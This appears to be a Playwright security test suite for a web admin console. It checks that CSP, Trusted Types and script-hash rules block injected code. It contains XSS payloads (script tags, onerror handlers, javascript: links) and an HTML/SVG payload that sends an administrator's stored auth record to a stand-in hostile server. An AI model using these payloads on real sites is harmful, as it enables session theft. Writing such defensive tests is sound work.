import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import type { Page } from '@playwright/test';
import { HOST } from '../tooling/network.ts';
import { type Console, openLiveConsole } from './harness/consoles.ts';
import { loadAll } from './harness/flipped.ts';
import { failedRequest } from './harness/guard.ts';
import { enterWithoutBackend, NO_BACKEND } from './harness/no-backend.ts';
import { heading, ROOMS } from './harness/rooms.ts';
import { expect, test as base } from './harness/site.ts';

/*
 * What malicious code could do in the console's page, after a flaw in our code, in a package, or in a section. Each attempt is made in the
 * page itself: none of it may run, and none may reach another origin.
 */

const PROGRAM = 'window.owned = true;';
const SCRIPT = { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' };

/** Another origin, which answers everything with a program. */
interface Evil {
  readonly address: string;
  readonly asked: readonly (string | undefined)[];
  /** From now on it answers with this instead. */
  say(body: string): void;
}

const test = base.extend<{ readonly evil: Evil }>({
  evil: async ({}, use) => {
    const asked: (string | undefined)[] = [];
    let body = PROGRAM;
    const server = createServer(({ url }, response) => {
      asked.push(url);
      response.writeHead(200, SCRIPT).end(body);
    });
    await new Promise<void>((resolve) => server.listen(0, HOST, resolve));
    const { port } = server.address() as AddressInfo;
    await use({ address: `http://${HOST}:${port}/a.js`, asked, say: (said) => void (body = said) });
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  },
});

/** A file of a section that nothing has loaded yet. */
async function unusedFile(page: Page, site: Console): Promise<string> {
  const { url } = site.section('mfe-rooms');
  const { files } = (await (await fetch(`${url}/files.json`)).json()) as { files: Record<string, string> };
  const used = await page.evaluate(() => performance.getEntriesByType('resource').map(({ name }) => name));
  const file = Object.keys(files).find((name) => name.endsWith('.js') && !used.includes(`${url}/${name}`));
  return `${url}/${file ?? ''}`;
}

/** In the page: whether a script from an address ran, or why it got none. */
async function load(address: string): Promise<string> {
  try {
    const script = document.createElement('script');
    script.src = address;
    return await new Promise((resolve) => {
      script.onload = () => resolve('ran');
      script.onerror = () => resolve('refused');
      document.head.append(script);
    });
  } catch (error) {
    return (error as Error).name;
  }
}

/** In the page. */
const dynamicImport = (address: string): Promise<string> =>
  import(address).then(
    () => 'ran',
    () => 'refused',
  );

/** In the page: an HTML text that comes from somewhere. */
function asHtml(text: string): string {
  try {
    document.body.appendChild(document.createElement('div')).innerHTML = text;
    return 'parsed';
  } catch (error) {
    return (error as Error).name;
  }
}

/** In the page. */
const registerWorker = (address: string): Promise<string> =>
  Promise.resolve()
    .then(() => navigator.serviceWorker.register(address))
    .then(
      () => 'registered',
      () => 'refused',
    );

test.beforeEach(async ({ page, site, guard }) => {
  guard.allow(/Content Security Policy/, /Trusted/, /Integrity.Policy/i, /integrity/, failedRequest(''));
  await enterWithoutBackend(page, site.url, guard);
  await page.goto(site.url + ROOMS);
  await expect(heading(page)).toBeVisible();
});
test.afterEach(async ({ page, evil }) => {
  expect(await page.evaluate(() => 'owned' in window)).toBe(false);
  expect(evil.asked, 'nothing was asked of the other origin').toEqual([]);
});

test('a stored address of another origin does not become a script, nor does one of this site that no list names', async ({
  page,
  site,
  evil,
}) => {
  await page.evaluate((address) => localStorage.setItem('video', address), evil.address);
  expect(await page.evaluate(load, evil.address)).toBe('TypeError');
  for (const address of [`${site.url}/registry.json`, `${site.url}/api/v1/pictures/1`, `data:text/javascript,${PROGRAM}`, 'blob:x'])
    expect(await page.evaluate(load, address), address).toBe('TypeError');
});

test('a preload fetches nothing from another origin, and brings nothing past the hash', async ({ page, site, evil }) => {
  const preloaded = (address: string) =>
    page.evaluate(
      (href) =>
        new Promise<string>((resolve) => {
          const link = Object.assign(document.createElement('link'), { rel: 'preload', as: 'script', href, crossOrigin: 'anonymous' });
          link.onload = () => resolve('loaded');
          link.onerror = () => resolve('refused');
          document.head.append(link);
        }),
      address,
    );
  expect(await preloaded(evil.address)).toBe('refused');
  const address = await unusedFile(page, site);
  await page.route(address, (route) => route.fulfill({ body: PROGRAM, headers: SCRIPT }));
  expect(await preloaded(address), 'one of ours without a hash').toBe('refused');
});

test('an import brings nothing from another origin, nor a published file without its hash', async ({ page, site, evil }) => {
  expect(await page.evaluate(dynamicImport, evil.address)).toBe('refused');
  const address = await unusedFile(page, site);
  expect(await page.evaluate(dynamicImport, address)).toBe('refused');
  // The same file is one of those that may run: it is the hash that is missing.
  expect(await page.evaluate(load, address)).toBe('refused');
});

test('a published address that leads to another origin is not followed, even where the very same file is there', async ({
  page,
  site,
  evil,
}) => {
  const { url } = site.section('mfe-rooms');
  const address = await unusedFile(page, site);
  evil.say(await (await fetch(address)).text());
  site
    .section('mfe-rooms')
    .behave((request, reply) =>
      url + request.url === address ? reply.header('access-control-allow-origin', '*').redirect(evil.address) : undefined,
    );
  expect(await loadAll(page, [address])).toEqual({ [address]: 'refused' });
});

test('no service worker is registered, neither an attacker’s program nor a published file', async ({ page, site }) => {
  for (const address of [`${site.url}/main.js`, `${site.url}/registry.json`, await unusedFile(page, site)])
    expect(await page.evaluate(registerWorker, address), address).toBe('refused');
  expect(await page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length)).toBe(0);
});

test('no text becomes a document or a program', async ({ page }) => {
  for (const text of ['<script>window.owned = true</script>', '<img src="x" onerror="window.owned = true">'])
    expect(await page.evaluate(asHtml, text), text).toBe('TypeError');
  const ways = await page.evaluate(() => {
    const tried = [
      () => (document.createElement('iframe').srcdoc = '<script>parent.owned = true</script>'),
      () => document.write('<script>window.owned = true</script>'),
      () => new DOMParser().parseFromString('<p></p>', 'text/html'),
      () => Object.assign(document.createElement('script'), { text: 'window.owned = true' }),
      () => setTimeout('window.owned = true' as unknown as () => void),
    ];
    return tried.map((way) => {
      try {
        way();
        return 'done';
      } catch (error) {
        return error instanceof Error ? 'refused' : String(error);
      }
    });
  });
  expect(ways).toEqual(ways.map(() => 'refused'));
});

test('an event handler in a name is text, and one in an attribute does nothing', async ({ page }) => {
  const set = await page.evaluate(() =>
    ['onerror', 'onclick', 'onload'].map((handler) => {
      try {
        document.body.appendChild(document.createElement('button')).setAttribute(handler, 'window.owned = true');
        return 'set';
      } catch (error) {
        return (error as Error).name;
      }
    }),
  );
  expect(set).toEqual(['TypeError', 'TypeError', 'TypeError']);
  const refused = page.waitForEvent('console', (message) => /violation.*script-src/.test(message.text()));
  await page.evaluate(() => {
    const link = document.body.appendChild(document.createElement('a'));
    link.href = 'javascript:window.owned=true';
    link.click();
  });
  await refused;
});

test('an administrator’s name is drawn as text', async ({ page, site }) => {
  const name = '<img src=x onerror="window.owned=true">';
  await page.evaluate((said) => {
    const record = JSON.parse(localStorage.getItem('auth') ?? '{}') as { user: object };
    localStorage.setItem('auth', JSON.stringify({ ...record, user: { ...record.user, name: said } }));
  }, name);
  await page.goto(site.url + ROOMS);
  await expect(heading(page)).toBeVisible();
  await expect(page.getByText(name).first()).toBeVisible();
});

test('a script cannot replace the loader that sets the hashes, nor create a policy of its own', async ({ page }) => {
  const tried = await page.evaluate(() => {
    const loader = window.__arenaLoadVerified;
    try {
      (window as { __arenaLoadVerified?: unknown }).__arenaLoadVerified = () => undefined;
    } catch {
      // As it should be.
    }
    const made = ['default', 'mine'].map((name) => {
      try {
        (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy(name, {
          createScriptURL: (address: string) => address,
        });
        return 'made';
      } catch {
        return 'refused';
      }
    });
    const nonces = [...document.scripts].filter(({ nonce }) => nonce !== '').length;
    return { same: window.__arenaLoadVerified === loader, made, nonces };
  });
  expect(tried).toEqual({ same: true, made: ['refused', 'refused'], nonces: 0 });
});

/** A page and a drawing that tell what an administrator's browser has stored. */
const documentsOf = ({ address }: Evil) => {
  const script = `<script>window.owned = true; new Image().src = '${address}?' + localStorage.getItem('auth');</script>`;
  return { html: `<!doctype html><title>x</title>${script}`, svg: `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>` };
};
/** Writes both into a folder, and answers their names. */
function writeDocuments(folder: string, evil: Evil, name = 'x'): readonly string[] {
  mkdirSync(folder, { recursive: true });
  return Object.entries(documentsOf(evil)).map(([kind, text]) => {
    writeFileSync(path.join(folder, `${name}.${kind}`), text);
    return `${name}.${kind}`;
  });
}

test('a page or a drawing that someone wrote into the folder of published versions is not sent to an administrator', async ({
  page,
  site,
  evil,
  guard,
}) => {
  const live = await openLiveConsole(NO_BACKEND);
  try {
    await enterWithoutBackend(page, live.url, guard);
    for (const version of ['mfe-rooms/9.9.9', 'mfe-rooms/1.0.0', 'shell/1.0.0'])
      for (const file of writeDocuments(path.join(live.folder, version), evil)) {
        const address = version.startsWith('shell/') ? `/${file}` : `/live/${version}/${file}`;
        expect([address, (await page.goto(live.url + address))?.status()]).toEqual([address, 404]);
        expect(await page.evaluate(() => 'owned' in window), address).toBe(false);
      }
  } finally {
    await page.goto(site.url + ROOMS);
    await live.close();
  }
});

test("a page or a drawing on a section's own origin runs nothing when it is opened", async ({ page, site, evil, guard }) => {
  guard.allow(/Blocked script execution/);
  const section = site.section('mfe-rooms');
  for (const file of writeDocuments(section.folder, evil)) {
    expect((await page.goto(`${section.url}/${file}`))?.status()).toBe(200);
    expect(await page.evaluate(() => ['owned' in window, self.origin]), file).toEqual([false, 'null']);
    rmSync(path.join(section.folder, file));
  }
  await page.goto(site.url + ROOMS);
});
